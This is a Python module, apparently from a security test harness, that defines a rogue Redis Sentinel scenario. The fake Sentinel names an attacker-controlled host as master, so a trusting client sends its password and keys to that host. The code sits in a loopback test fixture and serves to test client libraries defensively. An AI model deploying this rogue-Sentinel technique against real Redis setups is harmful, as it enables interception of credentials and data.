"""C2 on redis: a Sentinel names the attacker's host as the master. The client logs in there."""

from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.redis import Talk, bulk
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import SECRET
from backwatch.attack.scenarios.redis.moved import RedisMoved
from backwatch.attack.techniques.redis_moved import Leading


class _Sentinel(Leading):
    def answer(self, verb: bytes, command: list[bytes], talk: Talk) -> bytes:
        if verb != b"SENTINEL":
            return super().answer(verb, command, talk)
        host, port = (LOOPBACK, self.elsewhere.port) if self.hostile else ("localhost", self.port)
        fields = (
            ("name", "shop"), ("ip", host), ("port", f"{port}"), ("flags", "master"), ("num-other-sentinels", "2"),
            ("num-slaves", "0"), ("quorum", "2"),
        )  # fmt: skip
        state = b"".join(bulk(text.encode()) for pair in fields for text in pair)
        if talk.three:
            return b"*1\r\n%%%d\r\n" % len(fields) + state
        return b"*1\r\n*%d\r\n" % (2 * len(fields)) + state


class RedisSentinelRogue(RedisMoved):
    """Sentinel and master share one port here. The client accepts any master that the Sentinel names."""

    code = "C2"
    attack = "names, as a Sentinel, another host as the master, which is sent the password and the keys"
    reference = "https://redis.io/docs/latest/operate/oss_and_stack/management/sentinel/; ATT&CK T1557"
    notices = "nothing"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return one server that plays both."""
        return _Sentinel(authority)

    def open_client(self) -> Any:
        """Return the library's client, over verified TLS."""
        from redis.sentinel import Sentinel

        tls: Any = {"ssl": True, "ssl_ca_certs": self.config.ca_file, "socket_timeout": 5}
        sentinel: Any = Sentinel([("localhost", self.config.port)], sentinel_kwargs=tls, password=SECRET, **tls)
        return sentinel.master_for("shop")
